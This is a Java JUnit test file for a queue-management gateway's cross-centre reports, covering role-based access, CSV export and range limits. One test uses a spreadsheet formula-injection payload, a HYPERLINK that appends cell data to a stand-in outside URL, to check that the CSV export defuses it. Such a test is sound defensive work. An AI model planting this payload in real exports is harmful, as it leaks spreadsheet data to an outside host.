package vn.onedesk.gateway.reports;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static vn.onedesk.gateway.reports.HallScript.at;
import static vn.onedesk.gateway.reports.RangeReportTest.assertQueue;
import static vn.onedesk.gateway.reports.RangeReportTest.line;
import static vn.onedesk.gateway.reports.RangeReportTest.texts;

import com.fasterxml.jackson.databind.JsonNode;
import io.vertx.core.json.JsonObject;
import java.io.StringReader;
import java.net.http.HttpResponse;
import java.time.Clock;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import vn.onedesk.engine.centre.CentreDefinition;
import vn.onedesk.gateway.config.ConfigLoader;
import vn.onedesk.gateway.config.GatewayConfig;
import vn.onedesk.gateway.devices.Device;
import vn.onedesk.gateway.devices.DeviceRole;
import vn.onedesk.gateway.devices.PasswordHash;
import vn.onedesk.gateway.staff.RoleAssignment;
import vn.onedesk.gateway.staff.StaffAccount;
import vn.onedesk.gateway.support.GatewayHarness;
import vn.onedesk.gateway.support.HttpCalls;
import vn.onedesk.gateway.support.Logins;
import vn.onedesk.gateway.support.TestClock;
import vn.onedesk.gateway.support.TestDatabase;

/**
 * One gateway running two centres, the demo's {@code hcc-tinh} and a district's {@code hcc-huyen} (the same
 * services and counters), each with a morning played over MQTT; then {@code GET /api/v1/reports?by=centre} as
 * each kind of reader: an administrator sees both, a manager only their own, anyone else is refused.
 *
 * <pre>
 * Monday 2025-03-03 (targets TP 20 min)
 *   hcc-tinh   A001 TP 08:00, Q01 calls 08:10 (wait 10), COMPLETE 08:15 (service 5)
 *   hcc-huyen  A001 TP 08:00, Q01 calls 08:30 (wait 30, over), COMPLETE 08:40 (10); A002 TP 08:05, still waiting
 * </pre>
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class ProvinceReportTest {
    static final LocalDate MONDAY = LocalDate.of(2025, 3, 3);
    static final String HUYEN = "hcc-huyen";
    static final String MARCH = "/api/v1/reports?from=2025-03-01&to=2025-03-31&by=centre";
    static final String PASSWORD = "mat-khau-quan-ly";

    private final TestClock clock = new TestClock(at(MONDAY, "07:50"));
    private GatewayHarness gateway;

    @BeforeAll
    void playAMorningAtEachCentre() throws Exception {
        gateway = GatewayHarness.start(twoCentres(), clock);
        // One hash for the three: PBKDF2 is slow on purpose, and these test accounts share a password.
        PasswordHash.Pbkdf2 password = PasswordHash.create(PASSWORD.toCharArray());
        Map<String, List<RoleAssignment>> managers = Map.of(
                "manager-huyen", List.of(RoleAssignment.managerOf(HUYEN)),
                "manager-hai", List.of(RoleAssignment.managerOf(GatewayHarness.CENTRE), RoleAssignment.managerOf(HUYEN)),
                "manager-khac", List.of(RoleAssignment.managerOf("hcc-khac")));
        managers.forEach((username, roles) -> assertTrue(GatewayHarness.await(gateway.gateway().staff().store()
                .create(new StaffAccount(username, "Quản lý " + username, Optional.empty(), password, Optional.empty(),
                        true, roles), Clock.systemUTC().instant()))));
        try (HallScript tinh = new HallScript(gateway, clock, GatewayHarness.CENTRE, "kiosk-1", "counter-");
             HallScript huyen = new HallScript(gateway, clock, HUYEN, "huyen-kiosk-1", "huyen-counter-")) {
            tinh.on(MONDAY).commandAt("07:55", "Q01", "OPEN");
            huyen.on(MONDAY).commandAt("07:55", "Q01", "OPEN");
            tinh.issueAt("08:00", "TP", "A001");
            huyen.issueAt("08:00", "TP", "A001");
            huyen.issueAt("08:05", "TP", "A002");
            tinh.callAt("08:10", "Q01", "A001");
            tinh.commandAt("08:15", "Q01", "COMPLETE");
            huyen.callAt("08:30", "Q01", "A001");
            huyen.commandAt("08:40", "Q01", "COMPLETE");
        }
        clock.set(at(MONDAY, "09:00"));
    }

    @AfterAll
    void stop() {
        if (gateway != null) {
            gateway.close();
        }
    }

    @Test
    void anAdministratorSeesEveryCentreOnALineOfItsOwnAndTotalsOverAllTheirTickets() {
        JsonNode report = json(as(Logins.admin(gateway), MARCH));
        assertEquals("2025-03-01", report.path("from").asText());
        assertEquals(31, report.path("days").asInt());
        assertEquals("centre", report.path("by").asText());
        assertEquals(List.of(HUYEN, GatewayHarness.CENTRE), texts(report.path("lines"), "centre"), "by centre id");
        JsonNode huyen = line(report, "centre", HUYEN);
        assertEquals("Bộ phận một cửa huyện (thử nghiệm)", huyen.path("name").asText());
        assertEquals("Asia/Ho_Chi_Minh", huyen.path("timezone").asText());
        //                  issued in calls recalls served noShows out unfinished waits mean p90 over service
        assertQueue(huyen, 2, 0, 1, 0, 1, 0, 0, 1, 1, 30.0, 30.0, 1, 10.0);
        assertQueue(line(report, "centre", GatewayHarness.CENTRE), 1, 0, 1, 0, 1, 0, 0, 0, 1, 10.0, 10.0, 0, 5.0);
        assertQueue(report.path("totals"), 3, 0, 2, 0, 2, 0, 0, 1, 2, 20.0, 30.0, 1, 7.5);
    }

    @Test
    void aCentreManagerSeesOnlyTheCentresTheyManage() {
        JsonNode tinh = json(as(Logins.manager(gateway), MARCH));
        assertEquals(List.of(GatewayHarness.CENTRE), texts(tinh.path("lines"), "centre"));
        assertQueue(tinh.path("totals"), 1, 0, 1, 0, 1, 0, 0, 0, 1, 10.0, 10.0, 0, 5.0);

        JsonNode huyen = json(as(login("manager-huyen"), MARCH));
        assertEquals(List.of(HUYEN), texts(huyen.path("lines"), "centre"));
        assertEquals(2, huyen.path("totals").path("issued").asInt());

        JsonNode both = json(as(login("manager-hai"), MARCH));
        assertEquals(List.of(HUYEN, GatewayHarness.CENTRE), texts(both.path("lines"), "centre"));
        assertEquals(3, both.path("totals").path("issued").asInt());

        JsonNode none = json(as(login("manager-khac"), MARCH));
        assertEquals(0, none.path("lines").size(), "their centre is not run by this gateway: " + none);
        assertEquals(0, none.path("totals").path("issued").asInt());
    }

    @Test
    void anonymousIs401AndAnOfficerIs403() {
        HttpResponse<String> anonymous = HttpCalls.get(gateway.httpUri(MARCH));
        assertEquals(401, anonymous.statusCode(), anonymous.body());
        assertEquals("UNAUTHENTICATED", HttpCalls.errorCode(anonymous));
        HttpResponse<String> officer = as(Logins.token(gateway, "officer-Q01", Logins.DEMO_PASSWORD), MARCH);
        assertEquals(403, officer.statusCode(), officer.body());
        assertEquals("FORBIDDEN", HttpCalls.errorCode(officer));
        assertTrue(officer.body().contains("CENTRE_MANAGER of a centre, or ADMIN"), officer.body());
    }

    @Test
    void aManagerOfOneCentreIs403ForTheOtherCentresReport() {
        String huyenReport = "/api/v1/centres/" + HUYEN + "/reports?from=2025-03-01&to=2025-03-31&by=counter";
        HttpResponse<String> other = as(Logins.manager(gateway), huyenReport);
        assertEquals(403, other.statusCode(), other.body());
        assertEquals("FORBIDDEN", HttpCalls.errorCode(other));
        JsonNode own = json(as(login("manager-huyen"), huyenReport));
        assertEquals(HUYEN, own.path("centre").asText());
        assertEquals(1, line(own, "counter", "Q01").path("served").asInt());
    }

    @Test
    void theCsvHasTheTotalsThenOneRowPerCentre() throws Exception {
        HttpResponse<String> response = as(Logins.admin(gateway), MARCH + "&format=csv");
        assertEquals(200, response.statusCode(), response.body());
        assertEquals("attachment; filename=\"bao-cao-cac-trung-tam_2025-03-01_2025-03-31.csv\"",
                response.headers().firstValue("content-disposition").orElseThrow());
        List<CSVRecord> rows;
        try (CSVParser parser = CSVParser.parse(new StringReader(response.body().substring(1)),
                CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).build())) {
            assertEquals(RangeCsv.HEADER, parser.getHeaderNames());
            rows = parser.getRecords();
        }
        assertEquals(List.of("Tổng các trung tâm", "Trung tâm", "Trung tâm"), rows.stream().map(r -> r.get("Phạm vi"))
                .toList());
        assertEquals(List.of("", HUYEN, GatewayHarness.CENTRE), rows.stream().map(r -> r.get("Trung tâm")).toList());
        assertEquals(List.of("3", "2", "1"), rows.stream().map(r -> r.get("Số thứ tự đã cấp")).toList());
        assertEquals(List.of("20.0", "30.0", "10.0"), rows.stream()
                .map(r -> r.get("Thời gian chờ trung bình (phút)")).toList());
        assertEquals("2 trung tâm", rows.get(0).get("Tên"));
    }

    @Test
    void aCentreCreatedWhileTheGatewayRunsIsInTheReportsAtOnce() {
        String admin = Logins.bearer(Logins.admin(gateway));
        HttpResponse<String> created = HttpCalls.call("POST", gateway.httpUri("/api/v1/admin/centres"),
                "{\"id\":\"xa-moi\",\"name\":\"Trung tâm xã Mới\",\"ticketsOnlyInSessions\":false}",
                "Authorization", admin);
        assertEquals(201, created.statusCode(), created.body());
        try {
            JsonNode province = json(HttpCalls.get(gateway.httpUri(MARCH), "Authorization", admin));
            assertEquals(List.of(HUYEN, GatewayHarness.CENTRE, "xa-moi"), texts(province.path("lines"), "centre"));
            assertEquals(0, line(province, "centre", "xa-moi").path("issued").asInt(-1));
            JsonNode own = json(HttpCalls.get(gateway.httpUri("/api/v1/centres/xa-moi/reports?from=2025-03-01"
                    + "&to=2025-03-31&by=day"), "Authorization", admin));
            assertEquals(31, own.path("lines").size(), own.toString());
        } finally { // the other tests expect the two centres of the configuration
            HttpResponse<String> removed = HttpCalls.call("DELETE", gateway.httpUri("/api/v1/admin/centres/xa-moi"),
                    null, "Authorization", admin);
            assertEquals(204, removed.statusCode(), removed.body());
        }
    }

    @Test
    void aNameThatASpreadsheetWouldRunAsAFormulaIsTextInTheCsvAndAsGivenInTheJson() throws Exception {
        String admin = Logins.bearer(Logins.admin(gateway));
        String formula = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Trung tâm xã\")";
        HttpResponse<String> created = HttpCalls.call("POST", gateway.httpUri("/api/v1/admin/centres"),
                new JsonObject().put("id", "xa-cong-thuc").put("name", formula).put("ticketsOnlyInSessions", false)
                        .encode(), "Authorization", admin);
        assertEquals(201, created.statusCode(), created.body());
        try {
            HttpResponse<String> csv = HttpCalls.get(gateway.httpUri(MARCH + "&format=csv"), "Authorization", admin);
            assertEquals(200, csv.statusCode(), csv.body());
            Map<String, String> names = new LinkedHashMap<>();
            try (CSVParser parser = CSVParser.parse(new StringReader(csv.body().substring(1)),
                    CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).build())) {
                parser.getRecords().forEach(r -> names.put(r.get("Trung tâm"), r.get("Tên")));
            }
            assertEquals("'" + formula, names.get("xa-cong-thuc"), "an apostrophe keeps it text: " + names);
            assertEquals("Bộ phận một cửa huyện (thử nghiệm)", names.get(HUYEN), "other names as they are");
            assertEquals("3 trung tâm", names.get(""), "and the figures too");

            HttpResponse<String> own = HttpCalls.get(gateway.httpUri("/api/v1/centres/xa-cong-thuc/reports"
                    + "?from=2025-03-01&to=2025-03-01&by=day&format=csv"), "Authorization", admin);
            assertTrue(own.body().contains(",Toàn trung tâm,xa-cong-thuc,\"'=HYPERLINK("), own.body());

            JsonNode json = json(HttpCalls.get(gateway.httpUri(MARCH), "Authorization", admin));
            assertEquals(formula, line(json, "centre", "xa-cong-thuc").path("name").asText(), "JSON is for programs");
        } finally { // the other tests expect the two centres of the configuration
            HttpResponse<String> removed = HttpCalls.call("DELETE",
                    gateway.httpUri("/api/v1/admin/centres/xa-cong-thuc"), null, "Authorization", admin);
            assertEquals(204, removed.statusCode(), removed.body());
        }
    }

    @Test
    void theReportAcrossCentresIsByCentreOverAtMostNinetyTwoDays() {
        String admin = Logins.admin(gateway);
        for (String query : List.of("?from=2025-03-01&to=2025-03-31", "?from=2025-03-01&to=2025-03-31&by=day",
                "?from=2025-03-01&by=centre")) {
            HttpResponse<String> response = as(admin, "/api/v1/reports" + query);
            assertEquals(400, response.statusCode(), query + ": " + response.body());
            assertEquals("INVALID_REQUEST", HttpCalls.errorCode(response), query);
        }
        HttpResponse<String> year = as(admin, "/api/v1/reports?from=2025-01-01&to=2025-12-31&by=centre");
        assertEquals(400, year.statusCode(), year.body());
        assertEquals("RANGE_TOO_LONG", HttpCalls.errorCode(year));
    }

    // ---

    /** The demo's configuration with a second centre, a copy of the first, and a kiosk and a counter of its own. */
    private static GatewayConfig twoCentres() {
        GatewayConfig demo = ConfigLoader.load(GatewayHarness.env(Map.of(ConfigLoader.ENV_PG_URL,
                TestDatabase.freshDatabaseUrl())));
        CentreDefinition tinh = demo.centres().get(0);
        CentreDefinition huyen = new CentreDefinition(HUYEN, "Bộ phận một cửa huyện (thử nghiệm)", tinh.timezone(),
                tinh.sessions(), tinh.services(), tinh.counters(), tinh.ticketsOnlyInSessions());
        PasswordHash demoPassword = demo.devices().stream().filter(d -> d.id().equals("kiosk-1")).findFirst()
                .orElseThrow().password();
        List<Device> devices = new ArrayList<>(demo.devices());
        devices.add(new Device("huyen-kiosk-1", HUYEN, DeviceRole.KIOSK, null, demoPassword));
        devices.add(new Device("huyen-counter-Q01", HUYEN, DeviceRole.COUNTER, "Q01", demoPassword));
        return new GatewayConfig(demo.demo(), demo.source(), demo.host(), demo.mqttPort(), demo.httpPort(),
                demo.dataDir(), demo.pgUrl(), List.of(tinh, huyen), devices, demo.routingPolicy(),
                demo.waitEstimator(), demo.demoTraffic(), demo.metricsToken());
    }

    private String login(String username) {
        return Logins.token(gateway, username, PASSWORD);
    }

    private HttpResponse<String> as(String token, String path) {
        return HttpCalls.get(gateway.httpUri(path), "Authorization", Logins.bearer(token));
    }

    private static JsonNode json(HttpResponse<String> response) {
        assertEquals(200, response.statusCode(), response.body());
        return HttpCalls.json(response);
    }
}
